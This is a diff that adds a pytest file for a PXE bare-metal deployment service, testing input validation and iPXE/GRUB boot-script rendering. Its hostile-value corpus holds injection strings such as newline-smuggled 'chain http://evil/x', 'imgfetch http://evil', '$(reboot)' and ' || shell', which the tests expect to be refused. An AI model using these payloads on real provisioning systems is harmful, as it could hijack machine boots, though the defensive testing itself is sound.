@@ -1,0 +1,149 @@
+"""Pure modules: MAC/hostname/kernel-arg validation, plan assembly, and boot-script rendering —
+including a generated corpus of hostile values that must never add a line or command to a script."""
+from __future__ import annotations
+
+import itertools
+import random
+
+import pytest
+
+from deployer.errors import BadInput
+from pxe import validate
+from pxe.plan import build_plan
+from pxe.render import InstallerBoot, Renderer, RenderError
+
+DEP_ID = "9f1c2e4a-0000-4000-8000-000000000001"
+TOKEN = f"{DEP_ID}.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+
+
+@pytest.mark.parametrize("text", ["aa:bb:cc:dd:ee:ff", "AA-BB-CC-DD-EE-FF", "aabbccddeeff", "AABBCCDDEEFF",
+                                  " aa:bb:cc:dd:ee:ff "])
+def test_mac_normalisation(text):
+    assert validate.normalize_mac(text) == "aa:bb:cc:dd:ee:ff"
+
+
+@pytest.mark.parametrize("text", ["aa:bb:cc:dd:ee", "aa:bb:cc:dd:ee:ff:00", "aa:bb-cc:dd:ee:ff", "gg:bb:cc:dd:ee:ff",
+                                  "aabb.ccdd.eeff", "", "aa:bb:cc:dd:ee:f\n", None, 5])
+def test_bad_macs(text):
+    with pytest.raises(BadInput) as exc:
+        validate.normalize_mac(text)
+    assert exc.value.location == "mac"
+
+
+def test_hostnames():
+    assert validate.check_hostname("Node-17.Example.org") == "node-17.example.org"
+    for bad in ("-a", "a-", "a..b", "a_b", "x" * 64, "a b", "ä", "", "a;b", "a.b.", "."):
+        with pytest.raises(BadInput):
+            validate.check_hostname(bad)
+
+
+def _installer(**overrides) -> InstallerBoot:
+    values = dict(base_url="http://10.0.2.2:8080", token=TOKEN, deployment_id=DEP_ID, mac="52:54:00:12:34:56",
+                  image="tiny", hostname="node-1", kernel_args=("quiet",))
+    values.update(overrides)
+    return InstallerBoot(**values)
+
+
+def _structure(script: str) -> list[str]:
+    """The command word of every line: what iPXE or GRUB would execute."""
+    return [line.split()[0] if line.split() else "" for line in script.splitlines()]
+
+
+# Characters and snippets that could break out of a kernel command line or a script line.
+_BAD_PIECES = ["\n", "\r", "\r\n", " ", "\t", ";", "&", "|", "$", "\\", "`", "{", "}", "${x}", "$(reboot)", "#",
+               "'", '"', "\x00", "\x0b", "\x0c", "\x1b[2J", "é", "\u2028", "\u0085", "ｓ", "<", ">", "*", "?", "!",
+               "%0a", "\nshell\n", "\nchain http://evil/x\n", " || shell", " && boot", "\n:label\ngoto label",
+               "\r\nimgfetch http://evil", "\n}\nmenuentry x {", "\nset root=(hd0)"]
+_PREFIXES = ["", "a", "node-1", "console=ttyS0", "1", "x.y"]
+_SUFFIXES = ["", "b", "-2", "=1", ".example"]
+
+
+def hostile_corpus(size: int = 1200) -> list[str]:
+    values = [p + piece + s for p, piece, s in itertools.product(_PREFIXES, _BAD_PIECES, _SUFFIXES)]
+    rng = random.Random(4)
+    alphabet = [chr(c) for c in range(0, 0x80)] + ["é", "\u2028", "\u00a0", "\ufeff"]
+    while len(values) < size:  # random strings that contain at least one non-[A-Za-z0-9._:/=,+@-] character
+        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 12)))
+        if not validate.KERNEL_ARG.match(text):
+            values.append(text)
+    return values
+
+
+def test_hostile_corpus_is_large_and_hostile():
+    corpus = hostile_corpus()
+    assert len(corpus) >= 1000
+    assert all(not validate.KERNEL_ARG.match(v) for v in corpus)
+
+
+def test_renderer_refuses_every_hostile_value():
+    renderer = Renderer()
+    reference_ipxe = _structure(renderer.installer_ipxe(_installer()))
+    reference_grub = _structure(renderer.installer_grub(_installer()))
+    rendered = 0
+    for value in hostile_corpus():
+        for field in ("hostname", "kernel_args", "image", "mac", "deployment_id", "token", "base_url"):
+            boot = _installer(**{field: (value,) if field == "kernel_args" else value})
+            for render, reference in ((renderer.installer_ipxe, reference_ipxe),
+                                      (renderer.installer_grub, reference_grub)):
+                try:
+                    script = render(boot)
+                except RenderError:
+                    continue
+                rendered += 1  # only reachable if a value was accepted: it must not change the structure
+                assert _structure(script) == reference, (field, value)
+        for render in (renderer.local_ipxe, renderer.local_grub, renderer.chain_ipxe, renderer.chain_grub):
+            with pytest.raises(RenderError):
+                render(value)
+    assert rendered == 0  # every one of them was refused by the renderer itself
+
+
+def test_api_validation_rejects_every_hostile_value():
+    for value in hostile_corpus():
+        for body, field in (({"hostname": value}, "hostname"), ({"kernel_args": [value]}, "kernel_args[0]")):
+            with pytest.raises(BadInput) as exc:
+                validate.check_deployment({"mac": "52:54:00:12:34:56", "image": "tiny", **body})
+            assert exc.value.location == field, (value, exc.value)
+
+
+def test_hostile_corpus_through_the_api(pxe_env):
+    """The same corpus against the real endpoint: every request is a 400, nothing is stored or rendered."""
+    corpus = hostile_corpus()
+    statuses = set()
+    for i, value in enumerate(corpus):
+        body = {"mac": "52:54:00:12:34:56", "image": "tiny"}
+        body["hostname" if i % 2 else "kernel_args"] = value if i % 2 else [value]
+        statuses.add(pxe_env.post_deployment(body).status_code)
+    assert statuses == {400}
+    assert pxe_env.client.get("/api/v1/deployments", headers=pxe_env.read).get_json()["deployments"] == []
+    script = pxe_env.client.get("/boot/52:54:00:12:34:56.ipxe").get_data(as_text=True)
+    assert _structure(script) == ["#!ipxe", "#", "iseq", "sanboot"]
+
+
+def test_valid_values_render_on_one_line():
+    renderer = Renderer()
+    script = renderer.installer_ipxe(_installer(kernel_args=("console=ttyS0,115200", "ip=dhcp", "root=/dev/sda2")))
+    assert _structure(script) == ["#!ipxe", "#", "kernel", "initrd", "boot"]
+    assert script.splitlines()[2].endswith("console=ttyS0,115200 console=ttyS0,115200 ip=dhcp root=/dev/sda2")
+
+
+def test_plan_kickstart_storage_and_overrides():
+    request = validate.check_deployment({"mac": "52:54:00:12:34:56", "image": "tiny", "kernel_args": ["quiet"],
+                                         "ssh_keys": ["ssh-ed25519 AAAAC3Nza ops@x"]})
+    storage = {"hostname": "from-ks", "network": [{"device": "eth0", "bootproto": "static", "ip": "10.0.0.9",
+                                                   "line": 4}],
+               "bootloader": {"append": "console=tty0"}, "ssh_keys": [{"user": "root", "key": "ssh-rsa AAAAB ks@x",
+                                                                         "line": 7}]}
+    image = {"name": "tiny", "url_path": "/images/tiny.tar.zst", "sha256": "a" * 64, "size": 5, "manifest": {}}
+    plan = build_plan(deployment_id=DEP_ID, request=request, storage=storage, image=image,
+                      base_url="http://s:1", deploy_public_key="ssh-ed25519 DEPLOY metalstream-deploy")
+    assert plan["hostname"] == "from-ks"
+    assert plan["network"] == [{"device": "eth0", "bootproto": "static", "ip": "10.0.0.9"}]
+    assert plan["kernel_args"] == "quiet"  # the request's args win over the kickstart's bootloader --append
+    assert plan["ssh_keys"] == ["ssh-ed25519 DEPLOY metalstream-deploy", "ssh-ed25519 AAAAC3Nza ops@x",
+                                "ssh-rsa AAAAB ks@x"]
+    assert plan["image"]["url"] == "http://s:1/images/tiny.tar.zst"
+    request["kernel_args"] = []
+    request["hostname"] = "node-9"
+    plan = build_plan(deployment_id=DEP_ID, request=request, storage=storage, image=image, base_url="http://s:1",
+                      deploy_public_key="k")
+    assert plan["kernel_args"] == "console=tty0" and plan["hostname"] == "node-9"
